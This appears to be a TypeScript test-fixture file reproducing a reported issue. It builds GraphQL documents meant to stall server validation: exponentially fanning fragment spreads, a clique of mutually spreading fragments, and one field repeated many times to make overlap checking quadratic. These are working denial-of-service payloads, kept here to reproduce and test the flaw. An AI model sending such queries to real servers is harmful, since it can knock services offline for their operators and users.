/** GraphQL documents a hostile client sends to stall a server's validation (issue 12's reproductions). */

/** Where the fragments apply: the root query, or under introspection's `__schema`. */
export type BombRoot = 'Query' | '__Schema';

const wrap = (root: BombRoot, spread: string): string =>
  root === 'Query' ? `query { ${spread} }` : `query { __schema { ${spread} } }`;
const leaf = (root: BombRoot): string => (root === 'Query' ? '__typename' : 'description');

/** `query { ...F0 }` where each fragment spreads the next one twice: 2^levels fields once expanded. */
export const fanOut = (levels: number, root: BombRoot = 'Query'): string =>
  [
    wrap(root, '...F0'),
    ...Array.from({ length: levels }, (_, i) => `fragment F${i} on ${root} { ...F${i + 1} ...F${i + 1} }`),
    `fragment F${levels} on ${root} { ${leaf(root)} }`,
  ].join('\n');

/** `n` fragments that each spread all the others. */
export const clique = (n: number, root: BombRoot = 'Query'): string => {
  const names = Array.from({ length: n }, (_, i) => `C${i}`);
  const spreads = (a: string): string =>
    names
      .filter((b) => b !== a)
      .map((b) => `...${b}`)
      .join(' ');
  return [wrap(root, '...C0'), ...names.map((a) => `fragment ${a} on ${root} { ${spreads(a)} }`)].join('\n');
};

/** One field selected `n` times in one place (quadratic for GraphQL's overlapping-fields rule). */
export const repeated = (n: number): string =>
  `{ ${Array.from({ length: n }, () => 'graphStats { nodeCount }').join(' ')} }`;
